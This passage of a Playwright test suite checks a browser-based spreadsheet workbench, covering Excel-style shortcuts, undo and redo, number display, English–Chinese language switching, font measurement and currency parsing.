    expect(tabs.filter((t) => t.startsWith("Minefields") || t === "Checked")).toEqual(["Checked"]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('a number turned into text in the page is Excel\'s 15 digits, in the bundled engine too: =(0.1+0.2)&"" shows 0.3, =LEN(1/3) 17, =1E20&"" 1E+20', async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.click('td[data-cell="K40"]');
    for (const formula of ['=(0.1+0.2)&""', "=LEN(1/3)", "=EXACT(0.1+0.2,0.3)", '=1E20&""']) {
      await page.keyboard.type(formula);
      await page.keyboard.press("Enter");
    }
    expect(await Promise.all(["K40", "K41", "K42", "K43"].map((a1) => cell(page, a1)))).toEqual(["0.3", "17", "TRUE", "1E+20"]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("the pane's notice of a report written goes when Ctrl+Z takes the report's sheet away, and comes back with Ctrl+Y", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.waitForSelector('[data-minefield="1"] textarea');
    await page.click('[role="tab"]:text-is("Growth")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
    await page.click('[role="tab"]:text-is("Growth")');
    await page.click('td[data-cell="B4"]');
    await page.keyboard.press("Control+z");
    expect(await page.locator('[role="tab"]:text-is("Minefields - Growth")').count()).toBe(0);
    await page.waitForSelector("#notice", { state: "detached" });
    await page.keyboard.press("Control+y");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("Excel's keys: Ctrl+Home to the first cell not frozen, Ctrl+PageDown/Up between sheets, Ctrl+Shift+arrow to the data's edge, Ctrl+A, Shift+Space, Ctrl+Space", async () => {
    const { page, errors } = await openWorkbench(browser);
    const sheetShown = () => page.textContent('[role="tab"][aria-selected="true"]');
    const nameBox = page.getByRole("textbox", { name: "Name Box" });
    // Growth freezes its first 9 rows and column A: Ctrl+Home goes to B10, and the view back to the top left.
    await nameBox.fill("R90");
    await nameBox.press("Enter");
    expect(await page.$eval("#grid", (grid) => grid.scrollTop > 0 && grid.scrollLeft > 0)).toBe(true);
    await page.keyboard.press("Control+Home");
    expect(await page.inputValue("#address")).toBe("B10");
    expect(await page.$eval("#grid", (grid) => [grid.scrollTop, grid.scrollLeft])).toEqual([0, 0]);
    // A run of three numbers typed in K40:K42, below and right of the sheet's data.
    await nameBox.fill("K40");
    await nameBox.press("Enter");
    for (const n of ["1", "2", "3"]) {
      await page.keyboard.type(n);
      await page.keyboard.press("Enter");
    }
    await nameBox.fill("K40");
    await nameBox.press("Enter");
    await page.keyboard.press("Control+Shift+ArrowDown");
    expect(await page.inputValue("#address")).toBe("K40:K42");
    await page.keyboard.press("Control+ArrowDown");
    expect(await page.inputValue("#address")).toBe("K42");
    await page.keyboard.press("Control+Shift+ArrowUp");
    expect(await page.inputValue("#address")).toBe("K40:K42");
    // Ctrl+End: the last used cell (the template's Growth data ends at K22, so K42); Ctrl+A: the run
    // round it (its current region), then again, from A1 to the last used cell.
    await page.keyboard.press("Control+End");
    const last = await page.inputValue("#address");
    expect(last).toBe("K42");
    await page.keyboard.press("Control+a");
    expect(await page.inputValue("#address")).toBe("K40:K42");
    await page.keyboard.press("Control+a");
    expect(await page.inputValue("#address")).toBe(`A1:${last}`);
    // Shift+Space: the row across the used columns; Ctrl+Space: the column down the used rows.
    await nameBox.fill("K41");
    await nameBox.press("Enter");
    await page.keyboard.press("Shift+Space");
    expect(await page.inputValue("#address")).toBe(`A41:${last.replace(/\d+$/, "")}41`);
    await nameBox.fill("K41");
    await nameBox.press("Enter");
    await page.keyboard.press("Control+Space");
    expect(await page.inputValue("#address")).toBe(`K1:K${last.replace(/^[A-Z]+/, "")}`);
    expect(await cell(page, "K41")).toBe("2"); // neither key typed a space over the cell
    // Ctrl+PageDown, Ctrl+PageUp: the next sheet and the one before.
    await page.keyboard.press("Control+PageDown");
    expect(await sheetShown()).toBe("Mature");
    await page.keyboard.press("Control+PageUp");
    await page.keyboard.press("Control+PageUp");
    expect(await sheetShown()).toBe("Cold start");
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Cold start");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("after a click on a sheet tab the keys act on that sheet: a number typed + Enter lands in its selected cell, Ctrl+Z takes it back, Ctrl+Y again", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.click('#tabs [role=tab] >> text="Mature"');
    await page.waitForFunction(() => document.querySelector('[role="tab"][aria-selected="true"]')?.textContent === "Mature");
    const at = await page.inputValue("#address");
    const before = await cell(page, at);
    await page.keyboard.type("4321");
    await page.keyboard.press("Enter");
    expect(await shownNumber(page, at)).toBe(4321);
    expect(await page.inputValue("#address")).not.toBe(at); // Enter moved down, on the grid
    await page.keyboard.press("Control+z");
    expect(await cell(page, at)).toBe(before);
    await page.keyboard.press("Control+y");
    expect(await shownNumber(page, at)).toBe(4321);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a cell's text with line breaks survives F2+Enter, a click in the formula bar + Enter and Escape; Alt+Enter breaks a line; the formula bar grows while editing", async () => {
    const { page, errors } = await openWorkbench(browser);
    const twoLines = "line one\nline two";
    await openFile(page, "line-breaks.xlsx", (workbook) => {
      const sheet = workbook.addWorksheet("Lines");
      sheet.getCell("A1").value = twoLines; // as Excel's Alt+Enter writes it
      sheet.getCell("A2").value = "below";
    });
    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "line-breaks.xlsx");
    const formulaBar = () => page.inputValue("#formula");
    await page.click('td[data-cell="A1"]');
    expect(await formulaBar()).toBe(twoLines);
    // F2, then Enter: the cell is entered again as it was, and the selection goes down.
    await page.keyboard.press("F2");
    await page.keyboard.press("Enter");
    expect(await page.inputValue("#address")).toBe("A2");
    await page.click('td[data-cell="A1"]');
    expect(await formulaBar()).toBe(twoLines);
    // A click in the formula bar, then Enter.
    await page.click("#formula");
    await page.keyboard.press("Enter");
    await page.click('td[data-cell="A1"]');
    expect(await formulaBar()).toBe(twoLines);
    // Escape drops a change.
    await page.keyboard.press("F2");
    await page.keyboard.type(" more");
    await page.keyboard.press("Escape");
    expect(await formulaBar()).toBe(twoLines);
    // Alt+Enter typing over a cell, and again after F2: a line break in the cell; the bar grows to show the lines.
    await page.click('td[data-cell="B2"]');
    const oneRow = await page.$eval("#formula", (bar) => bar.getBoundingClientRect().height);
    await page.keyboard.type("first");
    await page.keyboard.press("Alt+Enter");
    await page.keyboard.type("second");
    expect(await page.inputValue("#address")).toBe("B2");
    await page.keyboard.press("Enter");
    expect(await page.inputValue("#address")).toBe("B3");
    await page.click('td[data-cell="B2"]');
    expect(await formulaBar()).toBe("first\nsecond");
    await page.keyboard.press("F2");
    await page.keyboard.press("Control+End");
    await page.keyboard.press("Alt+Enter");
    await page.keyboard.type("third");
    const editing = await page.$eval("#formula", (bar) => bar.getBoundingClientRect().height);
    expect(editing).toBeGreaterThanOrEqual(oneRow * 2);
    await page.screenshot({ path: path.join(OUTPUT, "workbench-multiline-editing.png") });
    await page.keyboard.press("Enter");
    expect(await page.$eval("#formula", (bar) => bar.getBoundingClientRect().height)).toBe(oneRow);
    const { workbook } = await downloadAs(page, "line-breaks-downloaded.xlsx");
    expect(workbook.getWorksheet("Lines")!.getCell("A1").value).toBe(twoLines);
    expect(workbook.getWorksheet("Lines")!.getCell("B2").value).toBe("first\nsecond\nthird");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("Enter after a run of Tabs goes to the next row in the column where the run began, as in Excel; a click or an arrow key ends the run", async () => {
    const { page, errors } = await openWorkbench(browser);
    await openFile(page, "tab-run.xlsx", (workbook) => workbook.addWorksheet("Run"));
    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "tab-run.xlsx");
    const at = () => page.inputValue("#address");
    await page.click('td[data-cell="A1"]');
    for (const [typed, key] of [["one", "Tab"], ["two", "Tab"], ["three", "Enter"]]) {
      await page.keyboard.type(typed);
      await page.keyboard.press(key);
    }
    expect(await at()).toBe("A2");
    expect([await cell(page, "A1"), await cell(page, "B1"), await cell(page, "C1")]).toEqual(["one", "two", "three"]);
    // The same on the grid without typing, and with Shift+Tab in the run.
    await page.click('td[data-cell="B5"]');
    for (const key of ["Tab", "Tab", "Shift+Tab", "Enter"]) await page.keyboard.press(key);
    expect(await at()).toBe("B6");
    // A click ends the run: Enter then goes straight down.
    await page.click('td[data-cell="A8"]');
    await page.keyboard.press("Tab");
    await page.click('td[data-cell="D8"]');
    await page.keyboard.press("Enter");
    expect(await at()).toBe("D9");
    // So does an arrow key.
    await page.keyboard.press("Tab");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Enter");
    expect(await at()).toBe("E11");
    // An arrow key ends the run even when it comes back to the cell the run reached, or cannot move at the sheet's edge:
    // Enter then goes down from the cell, as in Excel.
    const keys = async (start: string, pressed: string[]) => {
      await page.click(`td[data-cell="${start}"]`);
      for (const key of pressed) await page.keyboard.press(key);
      return at();
    };
    expect(await keys("B14", ["Tab", "Tab", "ArrowLeft", "Enter"])).toBe("C15");
    expect(await keys("B17", ["Tab", "Tab", "ArrowLeft", "ArrowRight", "Enter"])).toBe("D18");
    expect(await keys("A1", ["Tab", "Tab", "ArrowUp", "Enter"])).toBe("C2");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("Ctrl+D and Ctrl+R fill a cell's number format, fill and font colour with its contents, as Excel's fill does; one undo takes both back", async () => {
    const { page, errors } = await openWorkbench(browser);
    await openSheet(page, "Fill", (sheet) => {
      const source = sheet.getCell("B2");
      source.value = 1234.5;
      source.numFmt = "#,##0.00";
      source.fill = { type: "pattern", pattern: "solid", fgColor: { argb: "FFDDEBF7" } };
      source.font = { color: { argb: "FFC00000" } };
      sheet.getCell("B4").value = 7;
      for (const column of [2, 3, 4]) sheet.getColumn(column).width = 14;
    });
    const look = (a1: string) =>
      page.$eval(`td[data-cell="${a1}"]`, (td) => ({ shown: td.getAttribute("title") ?? td.textContent, fill: (td as HTMLElement).style.background, color: (td as HTMLElement).style.color }));
    const source = await look("B2");
    expect(source.shown).toBe("1,234.50");
    expect(source.fill).not.toBe("");
    expect(await look("B4")).toEqual({ shown: "7", fill: "", color: "" });
    // A cell's text as shown, or on hover where its column is too narrow for it.
    const shows = (a1: string, text: string) => page.waitForFunction(([at, wanted]) => { const td = document.querySelector(`td[data-cell="${at}"]`); return td !== null && (td.getAttribute("title") ?? td.textContent) === wanted; }, [a1, text] as const);
    // Ctrl+D on B2:B4, then Ctrl+R on B2:D2: the cells filled take B2's value, money format, fill and font colour;
    // one undo takes the contents and the looks back together.
    const fills = [
      { widen: "Shift+ArrowDown", key: "Control+d", filled: ["B3", "B4"] },
      { widen: "Shift+ArrowRight", key: "Control+r", filled: ["C2", "D2"] },
    ];
    for (const { widen, key, filled } of fills) {
      const before = await Promise.all(filled.map(look));
      await page.click('td[data-cell="B2"]');
      for (const press of [widen, widen, key]) await page.keyboard.press(press);
      await shows(filled[1], "1,234.50");
      for (const a1 of filled) expect({ key, a1, ...(await look(a1)) }).toEqual({ key, a1, ...source });
      await page.keyboard.press("Control+z");
      await shows(filled[1], before[1].shown ?? "");
      expect({ key, after: await Promise.all(filled.map(look)) }).toEqual({ key, after: before });
    }
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("Ctrl+Enter enters an entry into every selected cell, references moved, the selection kept, one undo; Enter and Tab move inside a selected range", async () => {
    const { page, errors } = await openWorkbench(browser);
    await openSheet(page, "Many", (sheet) => {
      for (const [a1, value] of [["A2", 1], ["A3", 2], ["A4", 3], ["B1", 10], ["C1", 20]] as const) sheet.getCell(a1).value = value;
    });
    const at = () => page.inputValue("#address");
    const active = () => page.getAttribute(".grid td.selected", "data-cell");
    const formulaOf = async (a1: string) => {
      await page.waitForSelector(`td[data-cell="${a1}"]`);
      return page.$eval(`td[data-cell="${a1}"]`, (td) => td.classList.contains("formula"));
    };
    // B2:C4 selected, =$A2*B$1 typed in B2 and entered with Ctrl+Enter: every cell takes it, moved as a fill moves it.
    await page.click('td[data-cell="B2"]');
    await page.click('td[data-cell="C4"]', { modifiers: ["Shift"] });
    await page.keyboard.type("=$A2*B$1");
    await page.keyboard.press("Control+Enter");
    await page.waitForFunction(() => document.querySelector('td[data-cell="C4"]')?.textContent === "60");
    expect([await cell(page, "B2"), await cell(page, "C2"), await cell(page, "B3"), await cell(page, "C3"), await cell(page, "B4")]).toEqual(["10", "20", "20", "40", "30"]);
    expect(await formulaOf("C4")).toBe(true);
    // The selection is kept, its active cell where it was.
    expect(await at()).toBe("B2:C4");
    expect(await active()).toBe("B2");
    expect(await page.inputValue("#formula")).toBe("=$A2*B$1");
    // Enter goes down the range's column, then to the top of the next, and round to the start; the range stays selected.
    const walked: string[] = [];
    for (let i = 0; i < 6; i++) {
      await page.keyboard.press("Enter");
      walked.push(`${await active()} ${await at()}`);
    }
    expect(walked).toEqual(["B3 B2:C4", "B4 B2:C4", "C2 B2:C4", "C3 B2:C4", "C4 B2:C4", "B2 B2:C4"]);
    expect(await page.inputValue("#formula")).toBe("=$A2*B$1");
    // Tab along the row, then the next row; Shift+Tab and Shift+Enter back, wrapping at the start.
    await page.keyboard.press("Tab");
    expect(await active()).toBe("C2");
    await page.keyboard.press("Tab");
    expect(await active()).toBe("B3");
    await page.keyboard.press("Shift+Tab");
    expect(await active()).toBe("C2");
    await page.keyboard.press("Shift+Tab");
    await page.keyboard.press("Shift+Enter");
    expect(`${await active()} ${await at()}`).toBe("C4 B2:C4");
    // Typing in the range enters into the active cell and Enter moves on inside the range.
    await page.keyboard.type("5");
    await page.keyboard.press("Enter");
    await page.waitForFunction(() => document.querySelector('td[data-cell="C4"]')?.textContent === "5");
    expect(`${await active()} ${await at()}`).toBe("B2 B2:C4");
    expect(await cell(page, "C3")).toBe("40");
    // One undo takes the typed 5 back, the next the whole Ctrl+Enter, selecting its range.
    await page.keyboard.press("Control+z");
    await page.waitForFunction(() => document.querySelector('td[data-cell="C4"]')?.textContent === "60");
    await page.keyboard.press("Control+z");
    await page.waitForFunction(() => ["B2", "C2", "B3", "C3", "B4", "C4"].every((a1) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === ""));
    expect(await at()).toBe("B2:C4");
    // A number typed with a format: every cell takes it, and its format.
    await page.keyboard.type("50%");
    await page.keyboard.press("Control+Enter");
    await page.waitForFunction(() => ["B2", "C2", "B3", "C3", "B4", "C4"].every((a1) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === "50%"));
    // On a single cell, Ctrl+Enter enters and stays there.
    await page.click('td[data-cell="E5"]');
    await page.keyboard.type("one");
    await page.keyboard.press("Control+Enter");
    await page.waitForFunction(() => document.querySelector('td[data-cell="E5"]')?.textContent === "one");
    expect(await at()).toBe("E5");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("the pane's language switch switches the page too: its labels, its message line (the message shown now reworded) and its prompts", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.waitForSelector("#root #language");
    const nameBox = page.getByRole("textbox", { name: "Name Box" });
    await nameBox.fill("no such place");
    await nameBox.press("Enter");
    expect(await page.textContent("#message")).toContain("is not a cell or range");
    await page.click("#root #language");
    await page.waitForFunction(() => document.documentElement.lang === "zh-CN");
    expect(await page.textContent("#download")).toBe("下载 .xlsx");
    expect(await page.title()).toBe("Spillsplit 工作台");
    await expect(page.getByRole("textbox", { name: "编辑栏" }).count()).resolves.toBe(1);
    await expect(page.getByRole("textbox", { name: "名称框" }).count()).resolves.toBe(1);
    expect(await page.textContent("#message")).toBe("“no such place”不是本工作簿中的单元格或区域：请输入如 B7、A1:C3、C:C 或 Growth!B7 的引用。");
    const asked: string[] = [];
    page.on("dialog", (dialog) => {
      asked.push(dialog.message());
      void dialog.dismiss();
    });
    await page.dblclick('[role="tab"]:text-is("Growth")');
    for (let i = 0; i < 50 && asked.length === 0; i++) await page.waitForTimeout(100);
    expect(asked).toEqual(["工作表“Growth”的新名称："]);
    // Reloading the task pane keeps the one language chosen; switching back brings the page back to English.
    await page.click("#reload-pane");
    await page.waitForFunction(() => document.querySelector("#root #language")?.textContent === "English");
    await page.click("#root #language");
    await page.waitForFunction(() => document.documentElement.lang === "en");
    expect(await page.textContent("#download")).toBe("Download .xlsx");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("README, the workbench's language: a reload keeps the language the pane switched to; a link's ?lang= opens in its own; a visit without one, in the one last shown", async () => {
    const { page, errors } = await openWorkbench(browser);
    const shown = async () => ({ page: await page.evaluate(() => document.documentElement.lang), download: await page.textContent("#download"), pane: await page.textContent("#root #language") });
    const ready = () => page.waitForSelector("body[data-ready=true] #root #language", { timeout: 60_000 });
    const chinese = { page: "zh-CN", download: "下载 .xlsx", pane: "English" };
    const english = { page: "en", download: "Download .xlsx", pane: "中文" };
    await ready();
    expect(await shown()).toEqual(english);
    await page.click("#root #language");
    await page.waitForFunction(() => document.documentElement.lang === "zh-CN");
    // The page opened with ?lang=en: a reload stays in the language switched to, page and pane.
    await page.reload();
    await ready();
    expect(await shown()).toEqual(chinese);
    expect(await page.textContent('[data-minefield="1"]')).toMatch(/[\u4e00-\u9fff]/);
    // A link that says its language opens in it…
    await page.goto(`${origin}workbench.html?lang=en`);
    await ready();
    expect(await shown()).toEqual(english);
    // …and is the language a visit without ?lang= opens in.
    await page.goto(`${origin}workbench.html`);
    await ready();
    expect(await shown()).toEqual(english);
    await page.click("#root #language");
    await page.waitForFunction(() => document.documentElement.lang === "zh-CN");
    await page.goto(`${origin}workbench.html`);
    await ready();
    expect(await shown()).toEqual(chinese);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("after the pane's language switch every cell speaks the new language, as opening the workbook in it shows, with no change kept and undo as it was", async () => {
    /** Each drawn cell of a sheet: what it shows and its hover text (an error's message). */
    const texts = async (page: Page, sheet: string) => {
      await page.click(`[role="tab"]:text-is("${sheet}")`);
      await page.waitForFunction((name) => document.querySelector("#root #sheet")?.textContent === name, sheet);
      return page.$$eval(".grid td[data-cell]", (cells) => cells.map((td) => `${td.getAttribute("data-cell")}: ${td.textContent} | ${td.getAttribute("title") ?? ""}`));
    };
    const sheets = ["Notes", "Lines", "Growth"];
    const chinese = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1400, height: 820 } });
    const opened = await chinese.newPage();
    await opened.goto(`${origin}workbench.html?lang=zh`);
    await opened.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    const inChinese: string[][] = [];
    for (const sheet of sheets) inChinese.push(await texts(opened, sheet));
    await chinese.close();

    const { page, errors } = await openWorkbench(browser);
    await page.waitForSelector("#root #language");
    const inEnglish: string[][] = [];
    for (const sheet of sheets) inEnglish.push(await texts(page, sheet));
    /** The copy kept in the browser for a reload: whether it is marked changed, and whether it holds contents since it was opened. */
    const kept = () =>
      page.evaluate(
        () =>
          new Promise<{ unsaved: boolean; contents: boolean }>((resolve, reject) => {
            const opening = indexedDB.open("spillsplit-workbench", 1);
            opening.onerror = () => reject(opening.error);
            opening.onsuccess = () => {
              const read = opening.result.transaction("workbook").objectStore("workbook").get("open");
              read.onsuccess = () => {
                opening.result.close();
                resolve({ unsaved: read.result.unsaved, contents: read.result.contents !== undefined });
              };
            };
          }),
      );
    await page.waitForSelector("body[data-kept=true]");
    expect(await kept()).toEqual({ unsaved: false, contents: false });
    const switched = await page.evaluate(() => {
      const started = performance.now();
      (document.querySelector("#root #language") as HTMLElement).click();
      return new Promise<number>((resolve) => requestAnimationFrame(() => resolve(performance.now() - started)));
    });
    await page.waitForFunction(() => document.documentElement.lang === "zh-CN");
    console.log(`language switch on the template, to the next frame: ${switched.toFixed(0)} ms`);
    // Nothing changed in the workbook: the kept copy stays the unchanged template.
    await page.waitForTimeout(600); // longer than a keep waits after a change
    await page.waitForSelector("body[data-kept=true]");
    expect(await kept()).toEqual({ unsaved: false, contents: false });
    const switchedTexts: string[][] = [];
    for (const sheet of sheets) switchedTexts.push(await texts(page, sheet));
    expect(switchedTexts).toEqual(inChinese);
    expect(switchedTexts[0]).not.toEqual(inEnglish[0]); // HOTNOTES' labels
    expect(switchedTexts[1]).not.toEqual(inEnglish[1]); // SWEEP's header
    // An edit, a switch back to English: Ctrl+Z takes back the edit (the switch is no step of its own), and there is nothing before it.
    const notes = inEnglish[0];
    const englishLabel = notes.find((text) => text.startsWith("G2: "))!.replace(/^G2: (.*) \| .*$/, "$1");
    await page.click('[role="tab"]:text-is("Notes")');
    await page.click('td[data-cell="G2"]');
    const labelBefore = await cell(page, "G2");
    await page.click('td[data-cell="B2"]');
    await page.keyboard.press("Delete");
    await page.waitForFunction(() => document.querySelector('td[data-cell="G2"]')?.textContent === "");
    await page.click("#root #language");
    await page.waitForFunction(() => document.documentElement.lang === "en");
    await page.click('td[data-cell="B2"]'); // the keys back on the sheet
    await page.keyboard.press("Control+z");
    await page.waitForFunction((label) => document.querySelector('td[data-cell="G2"]')?.textContent === label, englishLabel);
    expect(labelBefore).not.toBe(await cell(page, "G2")); // it was in Chinese
    await page.keyboard.press("Control+z");
    expect(await texts(page, "Notes")).toEqual(notes);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("the NPL sheet's and CPM history's figures show in full, as in Excel: the grid draws and measures in the workbook's font (Calibri, else Carlito, which the page serves), whose digits its widths count", async () => {
    // A Chromium that finds neither Calibri nor Carlito on this machine (fontconfig told to hide them):
    // the page's own Carlito must do, loaded before the grid first measures.
    const bare = (fontless = await launchChromium({ FONTCONFIG_FILE: fontconfigWithout(["Calibri", "Carlito"]) }));
    // The font files come late (a slow connection): the grid must wait for them, not measure in the fallback meanwhile.
    const late = (page: Page) => page.route("**/fonts/*.woff2", async (route) => void (await new Promise((resolve) => setTimeout(resolve, 5000)), await route.continue()));
    const { page, errors } = await openWorkbench(bare, late);
    expect(await page.$eval("#grid", (grid) => getComputedStyle(grid).fontFamily)).toMatch(/^Calibri, Carlito,/);
    const nameBox = page.getByRole("textbox", { name: "Name Box" });
    const hashes = async (corners: string[]) => {
      const found: string[] = [];
      for (const at of corners) {
        await nameBox.fill(at);
        await nameBox.press("Enter");
        found.push(...(await page.$$eval(".grid td[data-cell]", (tds) => tds.filter((td) => /^#+$/.test(td.textContent ?? "")).map((td) => `${td.getAttribute("data-cell")}: ${td.getAttribute("title")}`))));
      }
      return [...new Set(found)];
    };
    /** The cells of `range` as shown (every one drawn), scrolled to its first. */
    const shown = async (range: string) => {
      await nameBox.fill(range.split(":")[0]);
      await nameBox.press("Enter");
      const [from, to] = range.split(":").map((a1) => /^([A-Z])(\d+)$/.exec(a1)!);
      const cells: string[] = [];
      for (let c = from[1].charCodeAt(0); c <= to[1].charCodeAt(0); c++) for (let r = Number(from[2]); r <= Number(to[2]); r++) cells.push(`${String.fromCharCode(c)}${r}`);
      return page.$$eval(".grid td[data-cell]", (tds, wanted) => wanted.map((a1) => `${a1}: ${tds.find((td) => td.getAttribute("data-cell") === a1)?.textContent ?? "(not drawn)"}`), cells);
    };
    const withHash = (cells: string[]) => cells.filter((text) => text.includes("#") || text.endsWith("(not drawn)"));
    await page.click('[role="tab"]:text-is("NPL 笔记·人群·直播")');
    // The ladder's figures and totals (H43:K51) and the year's GMV below it (B53:B58) showed #### in the fallback
    // (14 characters in bold in a 15-character column); every other cell of the sheet is checked too.
    expect(await hashes(["A1", "A45", "L51", "B58"])).toEqual([]);
    const ladder = await shown("H43:K51");
    const gmv = await shown("B53:B58");
    expect(withHash([...ladder, ...gmv])).toEqual([]);
    expect(ladder.filter((text) => /\d$/.test(text)).length).toBeGreaterThan(20);
    expect(gmv.filter((text) => /\d$/.test(text)).length).toBeGreaterThan(3);
    expect(await shownNumber(page, "B58")).toBeGreaterThan(1e8);
    await page.screenshot({ path: path.join(OUTPUT, "workbench-npl-figures.png") });
    // CPM history's month columns (I5, L5, O5 showed ####).
    await page.click('[role="tab"]:text-is("CPM history")');
    expect(await hashes(["A1", "P5"])).toEqual([]);
    const months = [...(await shown("I5:I5")), ...(await shown("L5:L5")), ...(await shown("O5:O5"))];
    expect(withHash(months)).toEqual([]);
    for (const text of months) expect(text).toMatch(/\d$/);
    // The grid's font is the page's Carlito, both faces loaded (not a system font of that name).
    expect(await page.evaluate(() => document.fonts.check("13px Carlito") && document.fonts.check("600 13px Carlito"))).toBe(true);
    // Both faces came from the page (fonts/), loaded: not a system font's name.
    const loaded = () => {
      const weights: string[] = [];
      document.fonts.forEach((face) => void (face.family.replace(/"/g, "") === "Carlito" && face.status === "loaded" && weights.push(face.weight)));
      return weights.sort();
    };
    expect(await page.evaluate(loaded)).toEqual(["400", "700"]);
    expect(errors).toEqual([]);
  });

  it("12:00 AM and 10:30 PM typed into a column of Excel's default width show as typed, as in Excel, not ####", async () => {
    const { page, errors } = await openWorkbench(browser);
    for (const [a1, typed] of [["AZ5", "12:00 AM"], ["AZ6", "10:30 PM"]]) {
      await page.fill("#address", a1);
      await page.press("#address", "Enter");
      await page.keyboard.type(typed);
      await page.keyboard.press("Enter");
    }
    expect(await page.$eval('td[data-cell="AZ5"]', (td) => td.getBoundingClientRect().width)).toBe(64); // Excel's default 8.43 characters
    expect([await cell(page, "AZ5"), await cell(page, "AZ6")]).toEqual(["12:00 AM", "10:30 PM"]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("=0.1+0.2=0.3 typed is TRUE and =0.1+0.2-0.3 is 0, as in Excel: the page's engine (HyperFormula's ES build) compares as Excel's", async () => {
    const { page, errors } = await openWorkbench(browser);
    for (const [a1, typed] of [["AZ5", "=0.1+0.2=0.3"], ["AZ6", "=1.1*3=3.3"], ["AZ7", "=1=1+1e-10"], ["AZ8", "=0.1+0.2-0.3"]]) {
      await page.fill("#address", a1);
      await page.press("#address", "Enter");
      await page.keyboard.type(typed);
      await page.keyboard.press("Enter");
    }
    expect([await cell(page, "AZ5"), await cell(page, "AZ6"), await cell(page, "AZ7"), await cell(page, "AZ8")]).toEqual(["TRUE", "TRUE", "FALSE", "0"]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a cell with line breaks (Alt+Enter) or a wrapping look shows its lines, its row grown to them as Excel autofits it; a height the file sets stays", async () => {
    const { page, errors } = await openWorkbench(browser);
    const box = (selector: string) => page.$eval(selector, (element) => element.getBoundingClientRect().height);
    const lineCount = (a1: string) => page.$eval(`td[data-cell="${a1}"] > div`, (div) => Math.round(div.getBoundingClientRect().height / parseFloat(getComputedStyle(div).lineHeight)));
    await page.click('td[data-cell="K5"]');
    await page.keyboard.type("first line");
    await page.keyboard.press("Alt+Enter");
    await page.keyboard.type("second line");
    await page.keyboard.press("Enter");
    await page.waitForSelector('td[data-cell="K5"].wrap');
    expect(await lineCount("K5")).toBe(2);
    expect(await box('td[data-cell="K5"]')).toBeGreaterThanOrEqual(40);
    expect(await box('td[data-cell="K6"]')).toBe(22); // the next row keeps one line
    // The row numbers follow the grown row: row 6's number sits beside row 6.
    const top = (selector: string) => page.$eval(selector, (element) => Math.round(element.getBoundingClientRect().top));
    expect(await top('tr[aria-rowindex="7"] th.row')).toBe(await top('td[data-cell="K6"]'));
    // The table's headers wrap, as the template's header style says, in the height the file gives their row (30 points).
    expect(await page.locator('td[data-cell="I9"].wrap').count()).toBe(1);
    expect(await box('td[data-cell="I9"]')).toBe(40);
    // Undo: one line again, and the row back to its height.
    await page.keyboard.press("Control+z");
    await page.waitForFunction(() => document.querySelector('td[data-cell="K5"]')?.textContent === "");
    expect(await box('td[data-cell="K5"]')).toBe(22);
    await page.screenshot({ path: path.join(OUTPUT, "workbench-wrapped.png") });
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("¥500,000 typed into a budget is the number 500000 for SUM and for the RED function alike, shown as typed; Ctrl+Z restores the cell and its look; 50万 stays text", async () => {
    const { page, errors } = await openWorkbench(browser);
    // Typed in the formula bar: ¥ and 万 are no key of the test's keyboard.
    const enter = async (a1: string, typed: string) => {
      await page.click(`td[data-cell="${a1}"]`);
      await page.fill("#formula", typed);
      await page.press("#formula", "Enter");
    };
    // A SUM of the twelve budgets beside them, where the sheet has no cell.
    await enter("K40", "=SUM(B10:B21)");
    const [shownBefore, sumBefore, budgetBefore] = [await cell(page, "B10"), await shownNumber(page, "K40"), await shownNumber(page, "B10")];
    const fillOf = () => page.$eval('td[data-cell="B10"]', (td) => getComputedStyle(td).backgroundColor);
    await page.click('td[data-cell="A30"]');
    const fillBefore = await fillOf();
    await enter("B10", "¥500,000");
    await page.waitForFunction(() => document.querySelector('td[data-cell="B10"]')?.textContent === "¥500,000");
    expect(await page.locator('td[data-cell="B10"].number').count()).toBe(1);
    // SUM adds 500000 in place of the budget before; SPILLSPLIT("growth", 500000) is 250000 | 250000.
    expect(await shownNumber(page, "K40")).toBe(sumBefore - budgetBefore + 500_000);
    expect([await cell(page, "C10"), await cell(page, "D10")]).toEqual(["250,000.00", "250,000.00"]);
    // Ctrl+Z: the budget and its money format come back, and its fill stays the input cell's.
    await page.keyboard.press("Control+z");
    await page.waitForFunction((shown) => document.querySelector('td[data-cell="B10"]')?.textContent === shown, shownBefore);
    expect(await shownNumber(page, "K40")).toBe(sumBefore);
    await page.click('td[data-cell="A30"]');
    expect(await fillOf()).toBe(fillBefore);
    // 50万 stays text, as in Excel: SUM leaves it out, the RED function reads it as 500000.
    const budget11 = await shownNumber(page, "B11");
    await enter("B11", "50万");
    await page.waitForFunction(() => document.querySelector('td[data-cell="B11"]')?.textContent === "50万");
    expect(await page.locator('td[data-cell="B11"].number').count()).toBe(0);
    expect(await shownNumber(page, "K40")).toBe(sumBefore - budget11);
